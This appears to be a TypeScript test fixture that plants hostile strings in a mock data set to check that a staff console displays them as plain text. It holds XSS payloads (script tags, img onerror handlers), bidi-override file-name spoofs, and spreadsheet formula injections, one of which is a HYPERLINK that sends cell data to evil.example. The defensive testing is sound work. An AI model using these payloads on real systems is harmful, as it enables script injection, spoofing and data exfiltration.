import type { World } from './world';

/**
 * Text an attacker (or an unlucky keyboard) could put in front of staff: markup, script, an image
 * with a handler, bidi overrides that turn a line around, and cells a spreadsheet would run. The
 * console must show every one of them as the literal text it is.
 */
export const hostileNames = [
  '<script>window.__pwned = "name"</script>张三',
  '<img src=x onerror="window.__pwned = \'img\'">李四',
  '王\u202Egnp.exe\u202C五',
  '<b>赵</b>\u2067六\u2069&amp;',
] as const;

export const hostileNotes = [
  '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
  '+86 21 <script>window.__pwned = "note"</script>',
  '-1+1 <img src=x onerror="window.__pwned = \'note\'">',
  '@SUM(1+1) \u202Edesrever: reads backwards',
  '\t=1+1 tab first',
] as const;

/** The staff name reviewer5 carries in a hostile world: shown in tables, chips and the audit. */
export const hostileStaffName = '<img src=x onerror="window.__pwned = \'staff\'">赵丽\u202E';

/**
 * Puts hostile text in a seeded world (mock control `hostileText`): the applicants of the waiting
 * requests take hostile names in turn, their earlier decisions and every history decision by
 * reviewer5 carry hostile notes, and reviewer5 a hostile display name. Ids, times and photos stay.
 */
export function makeHostile(world: World): void {
  const reviewer5 = world.users.find((u) => u.username === 'reviewer5');
  if (reviewer5) reviewer5.displayName = hostileStaffName;
  let n = 0;
  const applicants = new Set<string>();
  for (const request of world.requests) {
    if (request.status !== 'pending' || applicants.has(request.applicantId)) continue;
    const applicant = world.applicants.get(request.applicantId);
    if (!applicant) continue;
    applicant.name = hostileNames[n++ % hostileNames.length] ?? applicant.name;
    applicants.add(applicant.id);
  }
  let k = 0;
  for (const decision of world.decisions.values()) {
    const request = world.requestsById.get(decision.requestId);
    const mine = request !== undefined && applicants.has(request.applicantId);
    if (decision.outcome === 'rejected' && (mine || decision.decidedBy === reviewer5?.id)) {
      decision.note = hostileNotes[k++ % hostileNotes.length] ?? decision.note;
    }
  }
}
